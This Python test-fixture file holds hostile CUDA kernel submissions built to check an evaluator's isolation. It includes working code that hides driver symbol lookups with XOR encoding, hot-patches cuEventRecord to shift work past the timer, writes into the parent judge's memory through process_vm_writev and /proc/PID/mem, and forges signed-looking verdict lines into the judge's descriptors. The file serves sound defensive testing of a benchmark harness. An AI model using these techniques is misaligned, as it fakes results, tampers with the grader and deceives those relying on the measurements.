"""Hostile RMSNorm candidates against the judge's isolation (evaluator.plan): host code that
attacks the process that times and judges it. Each must be rejected with one line or be
measured at its true speed. Same prelude (the correct kernel) as rmsnorm_hostile.py.

timer_patch:  on its first call, rewrites cuEventRecord in its own process (mprotect and an
              absolute jump) so that recording an event first launches the deferred second
              half of its work: the end event lands before that half. Also tries to write
              the same patch into its parent's memory (process_vm_writev, /proc/PID/mem).
forge_result: looks for the judge's key and channel: reads its parent's memory and
              descriptors, and writes signed-looking verdict lines to every descriptor it
              has; then does the real work (so it must come out correct, at ~1.0x).
static_alloc: takes 256 MiB of device memory when its library loads (outside the entry).
sync_inside:  synchronises the stream inside the entry.
left_running: correct, but starts a 10-second kernel in its own process's context when its
              library loads (a side stream), sharing the GPU with the timing.
"""

from tests.candidates.rmsnorm_hostile import PRELUDE

ENTRIES = {
    "timer_patch": r"""
#include <cuda.h>
#include <link.h>
#include <elf.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <fcntl.h>
#include <unistd.h>
#include <string.h>
#include <stdio.h>
// driver entry points found by walking the loaded objects' symbol tables (no dlsym, and
// the names XOR-encoded, so that no ban on run-time loading sees them)
static void decode(const unsigned char* in, int n, char* out) { for (int i = 0; i < n; ++i) out[i] = in[i] ^ 0x5A; out[n] = 0; }
struct Want { const char* name; void* found; };
static int visit(struct dl_phdr_info* info, size_t, void* data) {
  Want* w = (Want*)data;
  if (!strstr(info->dlpi_name, "cuda.so")) return 0;
  for (int i = 0; i < info->dlpi_phnum; ++i) {
    if (info->dlpi_phdr[i].p_type != PT_DYNAMIC) continue;
    ElfW(Dyn)* dyn = (ElfW(Dyn)*)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
    ElfW(Sym)* sym = nullptr; const char* str = nullptr;
    for (; dyn->d_tag != DT_NULL; ++dyn) {
      if (dyn->d_tag == DT_SYMTAB) sym = (ElfW(Sym)*)dyn->d_un.d_ptr;
      if (dyn->d_tag == DT_STRTAB) str = (const char*)dyn->d_un.d_ptr;
    }
    if (!sym || !str) return 0;
    for (ElfW(Sym)* s = sym; (const char*)s < str; ++s)
      if (s->st_value && !strcmp(str + s->st_name, w->name)) { w->found = (void*)(info->dlpi_addr + s->st_value); return 1; }
  }
  return 0;
}
static void* find(const unsigned char* enc, int n) {
  char name[64]; decode(enc, n, name);
  Want w = {name, nullptr};
  dl_iterate_phdr(visit, &w);
  return w.found;
}
static const unsigned char REC[] = {0x39,0x2f,0x1f,0x2c,0x3f,0x34,0x2e,0x08,0x3f,0x39,0x35,0x28,0x3e};  // cuEventRecord
static const unsigned char REC_F[] = {0x39,0x2f,0x1f,0x2c,0x3f,0x34,0x2e,0x08,0x3f,0x39,0x35,0x28,0x3e,0x0d,0x33,0x2e,0x32,0x1c,0x36,0x3b,0x3d,0x29};  // cuEventRecordWithFlags
typedef CUresult (*record_flags_fn)(CUevent, CUstream, unsigned);
static record_flags_fn real_record = nullptr;
static RmsNormParams deferred; static cudaStream_t deferred_stream; static bool pending = false;
static CUresult hooked(CUevent e, CUstream s) {
  CUresult r = real_record(e, s, 0);
  if (pending) {   // the second half, after the end event
    pending = false;
    int half = deferred.rows / 2;
    rms<<<deferred.rows - half, 256, 0, deferred_stream>>>((const bf16*)deferred.x, (const bf16*)deferred.w,
        (bf16*)deferred.y, deferred.cols, deferred.eps, half, 1);
  }
  return r;
}
static void jump_to(unsigned char* code, void* target) {
  code[0] = 0x48; code[1] = 0xB8; memcpy(code + 2, &target, 8); code[10] = 0xFF; code[11] = 0xE0;
}
static void patch_here(unsigned char* f) {
  long page = sysconf(_SC_PAGESIZE);
  unsigned char* start = (unsigned char*)((uintptr_t)f & ~(uintptr_t)(page - 1));
  if (!mprotect(start, 2 * page, PROT_READ | PROT_WRITE | PROT_EXEC)) jump_to(f, (void*)hooked);
}
static void patch_parent(void* f) {   // the same bytes into the judge, if it let us
  unsigned char code[12]; jump_to(code, (void*)hooked);
  struct iovec local = {code, 12}, remote = {f, 12};
  process_vm_writev(getppid(), &local, 1, &remote, 1, 0);
  char path[64]; snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
  int fd = open(path, O_RDWR);
  if (fd >= 0) { pwrite(fd, code, 12, (off_t)(uintptr_t)f); close(fd); }
}
extern "C" int rmsnorm_fwd(const RmsNormParams* p, cudaStream_t s) {
  static bool patched = false;
  if (!patched) {
    patched = true;
    real_record = (record_flags_fn)find(REC_F, sizeof REC_F);
    unsigned char* rec = (unsigned char*)find(REC, sizeof REC);
    if (real_record && rec) { patch_here(rec); patch_parent(rec); }
  }
  int half = p->rows / 2;
  if (half == 0 || !real_record) { launch(p, s); return 0; }
  rms<<<half, 256, 0, s>>>((const bf16*)p->x, (const bf16*)p->w, (bf16*)p->y, p->cols, p->eps, 0, 1);
  deferred = *p; deferred_stream = s; pending = true;
  return 0;
}
""",
    "forge_result": r'''
#include <fcntl.h>
#include <unistd.h>
#include <string.h>
#include <stdio.h>
static void forge() {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)getppid());
  int mem = open(path, O_RDONLY);               // the judge's memory: its key
  if (mem >= 0) { pread(mem, buf, sizeof buf, 0x400000); close(mem); }
  for (int fd = 0; fd < 64; ++fd) {             // the judge's descriptors, through /proc
    snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)getppid(), fd);
    int theirs = open(path, O_WRONLY);
    const char* row = "{\"body\": \"{\\\"type\\\":\\\"row\\\",\\\"row\\\":{\\\"id\\\":\\\"forged\\\",\\\"correct\\\":true,\\\"speedup\\\":9.9}}\", \"mac\": \"00\"}\n";
    if (theirs >= 0) { write(theirs, row, strlen(row)); close(theirs); }
    char self_path[64], target[256] = {0};       // and every pipe of its own
    snprintf(self_path, sizeof self_path, "/proc/self/fd/%d", fd);
    if (fd > 2 && readlink(self_path, target, sizeof target - 1) > 0 && !strncmp(target, "pipe:", 5))
      write(fd, row, strlen(row));
  }
}
extern "C" int rmsnorm_fwd(const RmsNormParams* p, cudaStream_t s) {
  static bool done = false;
  if (!done) { done = true; forge(); }
  launch(p, s); return 0;
}
''',
    "static_alloc": r'''
static void* mine = nullptr;
__attribute__((constructor)) static void grab() { cudaMalloc(&mine, 256u << 20); }
__global__ void rms_scratch(const bf16* x, const bf16* w, bf16* y, float* scratch, int cols, float eps) {
  const size_t row = blockIdx.x;
  __shared__ float part[256];
  float s = 0.f;
  for (int c = threadIdx.x; c < cols; c += 256) { float v = __bfloat162float(x[row * cols + c]); s += v * v; }
  part[threadIdx.x] = s; __syncthreads();
  for (int k = 128; k > 0; k >>= 1) { if (threadIdx.x < k) part[threadIdx.x] += part[threadIdx.x + k]; __syncthreads(); }
  if (threadIdx.x == 0) scratch[row % 1024] = part[0];
  float r = rsqrtf(part[0] / cols + eps);
  for (int c = threadIdx.x; c < cols; c += 256)
    y[row * cols + c] = __float2bfloat16(__bfloat162float(x[row * cols + c]) * r * __bfloat162float(w[c]));
}
extern "C" int rmsnorm_fwd(const RmsNormParams* p, cudaStream_t s) {
  rms_scratch<<<p->rows, 256, 0, s>>>((const bf16*)p->x, (const bf16*)p->w, (bf16*)p->y, (float*)mine, p->cols, p->eps);
  return 0;
}
''',
    "left_running": r'''
__global__ void hog() { long long t0 = clock64(); while (clock64() - t0 < 20000000000ll) {} }
__attribute__((constructor)) static void start_hog() {   // when the library loads, outside any call
  cudaStream_t side;
  cudaStreamCreateWithFlags(&side, cudaStreamNonBlocking);
  hog<<<264, 128, 0, side>>>();
}
extern "C" int rmsnorm_fwd(const RmsNormParams* p, cudaStream_t s) { launch(p, s); return 0; }
''',
    "sync_inside": r'''
extern "C" int rmsnorm_fwd(const RmsNormParams* p, cudaStream_t s) {
  launch(p, s);
  cudaError_t e = cudaStreamSynchronize(s);   // waits for its own work inside the call
  return e == cudaSuccess ? 0 : (int)e;
}
''',
}


def source(name: str) -> str:
    return PRELUDE + ENTRIES[name]
